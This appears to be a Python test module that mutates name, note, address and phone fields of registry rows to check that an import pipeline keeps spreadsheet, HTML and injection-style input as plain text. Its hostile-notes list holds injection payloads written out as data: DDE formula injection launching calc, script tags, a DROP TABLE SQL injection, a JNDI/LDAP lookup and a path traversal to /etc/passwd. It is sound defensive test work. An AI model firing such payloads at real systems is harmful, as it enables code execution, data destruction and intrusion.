"""Mutations of free text: names, notes, addresses. Text arrives as text, whatever a spreadsheet or browser would do."""

from __future__ import annotations

from collections.abc import Callable

from tests.truth.change import Mutation, cell, judge
from tests.truth.rows import Cell, ErrorCell, Row

_HOSTILE_NOTES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid","点击")',
    "+1+1",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE registry_organization; --",
    "{{ 7*7 }}{% include x %}",
    "${jndi:ldap://example.invalid/a}",
    "%s %d %n 100%",
    "../../etc/passwd",
    'he said "好", 然后；走了',
    "a\\nb\\tc",
    "&lt;b&gt;&amp;",
)
_LONG_NOTE = "一年来开展多次活动。" * 500
_LONG_SCOPE = "开展社区服务、" * 420 + "其他"


def _named(
    name: str, spell: Callable[[str], str], *, stored: Callable[[str], str] | None = None, **how: object
) -> Mutation:
    """A name written otherwise: it is stored as ``stored`` gives, as written when not given."""

    def change(row: Row) -> None:
        shown = spell(str(row.fields["name"]))
        row.put("name", shown, (stored or (lambda _: shown))(str(row.fields["name"])))
        judge(row, **{"verdict": "accept", **how})  # type: ignore[arg-type]

    return Mutation(f"name-{name}", "name", change)


def _nameless(name: str, shown: Cell) -> Mutation:
    def change(row: Row) -> None:
        row.put("name", shown, None)
        of_error = isinstance(shown, ErrorCell)
        judge(row, "reject", ruling="T5" if of_error else "", also=("review",) if of_error else ())

    return Mutation(f"name-missing-{name}", "name", change)


def _same(text: str) -> str:
    return text


def _phone_number(row: Row) -> None:
    """A telephone number typed without an apostrophe is a number cell; eleven digits survive."""
    row.put("phone", int(str(row.fields["phone"])), row.fields["phone"])


def _too_long(row: Row) -> None:
    """A name of 400 characters: refused, asked about, or kept whole; never cut."""
    name = str(row.fields["name"]) + "和" * (400 - len(str(row.fields["name"])))
    row.put("name", name, name)
    judge(row, "reject", ruling="T3", also=("review", "accept"))


def _optional_cleared(row: Row) -> None:
    """Optional columns empty: an organization may leave all of them blank."""
    for column in ("address", "phone", "legal_representative", "scope", "street", "community", "registered_on"):
        row.put(column, None, None)


TEXT_MUTATIONS: tuple[Mutation, ...] = (
    *(cell(f"note-hostile-{place}", "note", text, text) for place, text in enumerate(_HOSTILE_NOTES)),
    _named("formula", lambda name: f"=cmd|'{name}'!A0"),
    _named("plus-formula", lambda name: f"+{name}"),
    _named("at-formula", lambda name: f"@{name}"),
    _named("script", lambda name: f"<script>{name}</script>"),
    _named("surrounding-blanks", lambda name: f"  {name} ", stored=_same),
    _named("ideographic-blanks", lambda name: f"　{name}　", stored=_same),
    _named("zero-width-end", lambda name: f"{name}\u200b", stored=_same, ruling="T7", also=("review",)),
    _named("full-width-brackets", lambda name: f"{name}（湖滨）", ruling="T1"),
    _named("half-width-brackets", lambda name: f"{name}(湖滨)", ruling="T1"),
    _named("full-width-letters", lambda name: f"{name}ＡＢ", ruling="T1"),
    _named("quotation-marks", lambda name: f"“{name}”"),
    _named("middle-dot", lambda name: f"{name}·湖滨"),
    _named("outside-gbk", lambda name: f"{name}㐂"),
    _named("outside-bmp", lambda name: f"{name}𠮷"),
    _named("rare-character", lambda name: f"{name}喆堃"),
    _named("line-break", lambda name: f"{name[:5]}\n{name[5:]}", stored=_same, ruling="T2", also=("review",)),
    _named("long", lambda name: name + "及" * (120 - len(name))),
    _named("begins-like-subtotal", lambda name: f"小计算盘{name}", ruling="T6"),
    _named("begins-like-total", lambda name: f"合计{name}", ruling="T6"),
    _named("begins-like-note", lambda name: f"注音{name}", ruling="T6"),
    Mutation("name-too-long", "name", _too_long),
    _nameless("empty", None),
    _nameless("blanks", "   "),
    _nameless("ideographic-blank", "　"),
    _nameless("slash", "/"),
    _nameless("none-word", "无"),
    _nameless("nan", "nan"),
    _nameless("error", ErrorCell("#N/A")),
    cell("error-count", "full_time", ErrorCell("#REF!"), None, "reject", ruling="T5", also=("review",)),
    cell("error-date", "registered_on", ErrorCell("#VALUE!"), None, "reject", ruling="T5", also=("review",)),
    cell("error-money", "capital_fen", ErrorCell("#DIV/0!"), None, "reject", ruling="T5", also=("review",)),
    cell("note-very-long", "note", _LONG_NOTE, _LONG_NOTE),
    cell("scope-very-long", "scope", _LONG_SCOPE, _LONG_SCOPE),
    cell("note-lines", "note", "第一行\n第二行", "第一行\n第二行"),
    cell("note-emoji", "note", "活动热闹🎉", "活动热闹🎉"),
    cell("note-digits", "note", "0012", "0012"),
    cell("note-number", "note", 12, "12"),
    cell("note-looks-like-date", "note", "2018-10-26", "2018-10-26"),
    cell("note-full-width-digits", "note", "１２３号", "１２３号", ruling="T1"),
    cell("address-separators", "address", '滨湖区演示路1号,二楼;"东"侧', '滨湖区演示路1号,二楼;"东"侧'),
    cell(
        "address-full-width-number", "address", "滨湖区演示路１２号（北门）", "滨湖区演示路１２号（北门）", ruling="T1"
    ),
    cell("head-blanks", "legal_representative", " 林　禾 ", "林　禾", ruling="T1", either=("林　禾", "林禾", "林 禾")),
    Mutation("phone-number-cell", "phone", _phone_number),
    cell("phone-landline", "phone", "0510-00001234", "0510-00001234"),
    Mutation("optional-columns-empty", "text", _optional_cleared),
)
